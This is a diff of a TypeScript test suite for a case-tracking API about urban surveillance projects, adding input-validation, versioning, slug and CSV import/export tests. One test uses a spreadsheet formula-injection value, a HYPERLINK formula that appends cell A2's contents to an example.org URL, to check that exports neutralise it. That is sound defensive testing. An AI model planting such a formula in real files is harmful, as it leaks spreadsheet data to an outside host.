@@ -123,6 +123,12 @@ describe(`cases on ${backend}`, () => {
       [{ ...MARSEILLE, budgetEuros: -5 }, 'budgetEuros', 400],
       [{ ...MARSEILLE, owner: 'me' }, '(body)', 400],
       [{ ...MARSEILLE, stage: 'published' }, 'stage', 409],
+      // A review is asked for from drafting, not opened as such.
+      [{ ...MARSEILLE, stage: 'review' }, 'stage', 409],
+      [{ ...MARSEILLE, budgetEuros: 1e12 }, 'budgetEuros', 400],
+      [{ ...MARSEILLE, title: 'Nul\u0000caractère' }, 'title', 400],
+      [{ ...MARSEILLE, tags: ['ok', 'pas\u0007ok'] }, 'tags.1', 400],
+      [{ ...MARSEILLE, actors: [{ name: '   ' }] }, 'actors.0.name', 400],
     ];
     for (const [body, path, status] of cases) {
       const res = await alice.api.post<{ code: string; details: { path: string }[] }>(
@@ -190,6 +196,33 @@ describe(`cases on ${backend}`, () => {
         },
       },
     });
+  });
+
+  it('versions a change of actors alone, and gives two equal titles created at once distinct slugs', async () => {
+    const c = await createCase(alice, { ...MARSEILLE, title: 'Acteurs seuls' });
+    const changed = await alice.api.patch<Case>(`/api/cases/${c.id}`, {
+      version: c.version,
+      actors: [{ name: 'Engie Solutions', kind: 'vendor', role: 'intégrateur' }],
+    });
+    expect(changed.body).toMatchObject({
+      version: c.version + 1,
+      actors: [{ name: 'Engie Solutions' }],
+    });
+    const stale = await bob.api.patch(`/api/cases/${c.id}`, {
+      version: c.version,
+      actors: [{ name: 'Thales' }],
+    });
+    expect(stale.status).toBe(409);
+    const [latest] = (await alice.api.get<Page<CaseEvent>>(`/api/cases/${c.id}/events`)).body.items;
+    expect(latest).toMatchObject({
+      type: 'case.updated',
+      payload: { changes: { actors: { to: ['Engie Solutions'] } } },
+    });
+
+    const twins = await Promise.all(
+      [alice, bob].map((who) => createCase(who, { ...MARSEILLE, title: 'Jumeaux' })),
+    );
+    expect(twins.map((t) => t.slug).sort()).toEqual(['jumeaux', 'jumeaux-2']);
   });
 
   it('moves cases on the board within the workflow: never to published by hand', async () => {
@@ -329,6 +362,10 @@ describe(`cases on ${backend}`, () => {
       (await alice.api.post(`/api/cases/${c.id}/timeline`, { date: '2018-02-30', title: 'x' }))
         .status,
     ).toBe(400);
+    for (const date of ['0000-01-01', '2999-01-01']) {
+      const res = await alice.api.post(`/api/cases/${c.id}/timeline`, { date, title: 'x' });
+      expect(res.status, date).toBe(400);
+    }
 
     await alice.api.patch(`/api/cases/${c.id}/timeline/${earlier.body.id}`, {
       title: 'Annonce du maire en conseil',
@@ -449,6 +486,25 @@ describe(`cases on ${backend}`, () => {
       actors: [{ name: 'Serenicity', kind: 'vendor', role: 'capteurs' }],
     });
 
+    // A title that a spreadsheet would run as a formula is exported inert, and imports back as it was.
+    const formula = '=HYPERLINK("http://example.org/?"&A2;"voir")';
+    await createCase(alice, { ...MARSEILLE, title: formula });
+    const exported = await request(`${t.url}/api/groups/${groupId}/cases/export`, {
+      headers: { authorization: `Bearer ${alice.token}` },
+    });
+    expect(exported.text).toContain(`'=HYPERLINK`);
+    const third = await newGroup(t, alice, 'Technopolice Nice');
+    const back = await importCsv(alice, third.id, exported.text);
+    expect(back.body.created.map((c) => c.title)).toContain(formula);
+
+    // Spreadsheets set in French separate cells with semicolons.
+    const semicolons = await importCsv(
+      alice,
+      third.id,
+      'title;cityCode;technologies\nNice — drones de la plage;06088;Drones\n',
+    );
+    expect(semicolons.body.created.map((c) => c.title)).toEqual(['Nice — drones de la plage']);
+
     // Members do not import; a JSON body is not a CSV; another group's import is not found.
     expect((await importCsv(bob, groupId, file)).status).toBe(403);
     expect(
@@ -498,14 +554,17 @@ describe(`cases on ${backend}`, () => {
     ) =>
       new Promise<Parameters<ServerToClientEvents[E]>[0]>((resolve, reject) => {
         const timer = setTimeout(() => reject(new Error(`no ${event}`)), 5000);
-        const untyped = socket as unknown as Socket;
-        const listener = (payload: Parameters<ServerToClientEvents[E]>[0]) => {
-          if (!match(payload)) return;
+        // socket.io's typed `on` cannot relate a generic event name to its listener.
+        const untyped = socket as unknown as Socket<Record<string, (payload: unknown) => void>>;
+        const name: string = event;
+        const listener = (payload: unknown) => {
+          const typed = payload as Parameters<ServerToClientEvents[E]>[0];
+          if (!match(typed)) return;
           clearTimeout(timer);
-          untyped.off(event as string, listener);
-          resolve(payload);
+          untyped.off(name, listener);
+          resolve(typed);
         };
-        untyped.on(event as string, listener);
+        untyped.on(name, listener);
       });
 
     it('shows moves and edits to the board and the case, and who is viewing', async () => {
